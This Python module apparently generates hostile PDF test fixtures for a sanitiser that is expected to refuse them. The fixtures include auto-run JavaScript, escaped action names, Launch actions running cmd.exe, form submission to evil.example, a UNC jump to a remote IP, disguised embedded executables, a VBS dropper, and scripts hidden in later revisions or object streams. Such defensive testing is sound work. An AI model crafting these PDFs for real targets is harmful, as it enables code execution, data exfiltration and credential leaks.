"""PDF files that run, send or carry something."""

from collections.abc import Callable
from random import Random

from .. import raw_pdf, words
from ..case import Made, Outcome, holds, hostile
from ..raw_pdf import Objects
from .disguises import PROGRAM

SCRIPT = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
ESCAPED = SCRIPT.replace("/JavaScript", "/J#61vaScr#69pt")
LAUNCH = "<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>"

PIN = "/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 7 0 R >>]"


def linked(action: str) -> str:
    """An entry for a page: a small area that acts when it is chosen."""
    return f"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A {action} >>]"


def made(title: str, mark: bytes, outcome: Outcome = Outcome.REFUSED, **entries: str) -> None:
    """A class of PDF files with entries in the catalogue or the page, and no more."""

    @hostile(title, holds(mark), outcome)
    def make(rng: Random) -> Made:
        return words.file_name(rng, "pdf"), raw_pdf.written(raw_pdf.simple(rng, **entries))


def changed(title: str, mark: bytes, outcome: Outcome = Outcome.REFUSED, **entries: str) -> Callable:
    """The same with objects that the decorated function adds."""

    def enter(change: Callable[[Objects, Random], None]) -> Callable:
        @hostile(title, holds(mark), outcome)
        def make(rng: Random) -> Made:
            objects = raw_pdf.simple(rng, **entries)
            change(objects, rng)
            return words.file_name(rng, "pdf"), raw_pdf.written(objects)

        return change

    return enter


made("a script when a PDF is opened", b"/JavaScript", catalogue=f"/OpenAction {SCRIPT}")
made(
    "a script among a PDF's names",
    b"/JavaScript",
    catalogue=f"/Names << /JavaScript << /Names [(x) {SCRIPT}] >> >>",
)
made("a script when a page is shown", b"/JavaScript", page=f"/AA << /O {SCRIPT} >>")
made("a script under an escaped name", b"/J#61vaScr#69pt", catalogue=f"/OpenAction {ESCAPED}")
made(
    "a script behind another action",
    b"/Next",
    catalogue=f"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next {SCRIPT} >>",
)
made("a script behind a link in a PDF", b"/JavaScript", page=linked(SCRIPT))
made("a program when a PDF is opened", b"/Launch", catalogue=f"/OpenAction {LAUNCH}")
made("a program behind a link in a PDF", b"/Launch", page=linked(LAUNCH))
made("a form that is sent away", b"/SubmitForm", page=linked("<< /S /SubmitForm /F (https://evil.example/) >>"))
made("data fetched into a form", b"/ImportData", catalogue="/OpenAction << /S /ImportData /F (x.fdf) >>")
made(
    "a jump into another file",
    b"/GoToR",
    Outcome.EITHER,
    catalogue="/OpenAction << /S /GoToR /F (\\\\\\\\203.0.113.9\\\\x.pdf) /D [0 /Fit] >>",
)
made(
    "a jump into an attached file",
    b"/GoToE",
    Outcome.EITHER,
    catalogue="/OpenAction << /S /GoToE /T << /R /C /N (x) >> >>",
)
made(
    "a link that runs a script in a PDF",
    b"javascript:",
    Outcome.EITHER,
    page=linked("<< /S /URI /URI (javascript:alert\\(1\\)) >>"),
)
made(
    "an address opened with a PDF",
    b"/URI",
    catalogue="/OpenAction << /S /URI /URI (https://evil.example/) >>",
)


@changed("an XFA form", b"/XFA", catalogue="/AcroForm << /Fields [] /XFA 7 0 R >>")
def xfa(objects: Objects, rng: Random) -> None:
    objects[7] = raw_pdf.stream(
        b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>app.alert(1)</script></xdp:xdp>'
    )


@changed("a script on a form's field", b"/Tx", catalogue="/AcroForm << /Fields [7 0 R] >>", page="/Annots [7 0 R]")
def keystrokes(objects: Objects, rng: Random) -> None:
    script = f"/AA << /K {SCRIPT} >>"
    objects[7] = f"<< /Type /Annot /Subtype /Widget /FT /Tx /T (x) /Rect [0 0 9 9] {script} >>".encode()


@changed("a long script in a stream", b"/JavaScript", catalogue="/OpenAction << /S /JavaScript /JS 7 0 R >>")
def long_script(objects: Objects, rng: Random) -> None:
    objects[7] = raw_pdf.stream(b"app.alert(1);" * rng.randint(10, 900), deflated=True)


@changed("a film in a PDF", b"/RichMedia", page="/Annots [7 0 R]")
def film(objects: Objects, rng: Random) -> None:
    assets = "/RichMediaContent << /Assets << /Names [(x.swf) 8 0 R] >> >>"
    objects[7] = f"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 99 99] {assets} >>".encode()
    objects[8] = b"<< /Type /Filespec /F (x.swf) /EF << /F 9 0 R >> >>"
    objects[9] = raw_pdf.stream(b"FWS\x0a" + rng.randbytes(100), "/Type /EmbeddedFile")


def _attached(objects: Objects, name: str, content: bytes) -> None:
    objects[7] = f"<< /Type /Filespec /F ({name}) /UF ({name}) /EF << /F 8 0 R >> >>".encode()
    objects[8] = raw_pdf.stream(content, "/Type /EmbeddedFile")


@changed("a program attached to a PDF", b"MZ", catalogue="/Names << /EmbeddedFiles << /Names [(x) 7 0 R] >> >>")
def program(objects: Objects, rng: Random) -> None:
    _attached(objects, rng.choice(("setup.exe", "report.pdf.scr", "run.bat", "invoice.pdf")), PROGRAM)


@changed("a program pinned to a page", b"MZ", page=PIN)
def pinned(objects: Objects, rng: Random) -> None:
    _attached(objects, rng.choice(("setup.exe", "notes.txt.exe")), PROGRAM)


@changed("a script attached to a PDF", b".vbs", catalogue="/Names << /EmbeddedFiles << /Names [(x) 7 0 R] >> >>")
def attached_script(objects: Objects, rng: Random) -> None:
    _attached(objects, "notes.vbs", b'CreateObject("WScript.Shell").Run "calc"')


@hostile("a script in a later revision of a PDF", holds(b"/Prev", b"/JavaScript"))
def later(rng: Random) -> Made:
    first = raw_pdf.simple(rng)
    again = f"<< /Type /Catalog /Pages 2 0 R /OpenAction {SCRIPT} >>".encode()
    return words.file_name(rng, "pdf"), raw_pdf.updated(raw_pdf.written(first), {1: again})


@hostile("a script in a compressed object of a PDF", holds(b"/ObjStm"))
def compressed(rng: Random) -> Made:
    """The catalogue names an action that stands in an object stream, behind a cross-reference stream."""
    objects = raw_pdf.simple(rng, catalogue="/OpenAction 8 0 R")
    objects[7] = raw_pdf.stream(f"8 0 {SCRIPT}".encode(), "/Type /ObjStm /N 1 /First 4", deflated=True)
    return words.file_name(rng, "pdf"), with_stream_table(objects, {8: (7, 0)})


def with_stream_table(objects: Objects, inside: dict[int, tuple[int, int]]) -> bytes:
    """A PDF whose table is a stream; ``inside`` says which objects stand in which object stream."""
    head = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
    content, places = raw_pdf.body(objects, len(head))
    own = max([*objects, *inside]) + 1
    places[own] = len(head) + len(content)
    rows = b"\0\0\0\0\0\0\0"
    for number in range(1, own + 1):
        if number in inside:
            rows += b"\2" + inside[number][0].to_bytes(4, "big") + inside[number][1].to_bytes(2, "big")
        else:
            rows += (b"\1" if number in places else b"\0") + places.get(number, 0).to_bytes(4, "big") + b"\0\0"
    table = raw_pdf.stream(rows, f"/Type /XRef /W [1 4 2] /Size {own + 1} /Root 1 0 R", deflated=True)
    return (
        head
        + content
        + f"{own} 0 obj\n".encode()
        + table
        + f"\nendobj\nstartxref\n{places[own]}\n%%EOF\n".encode()
    )
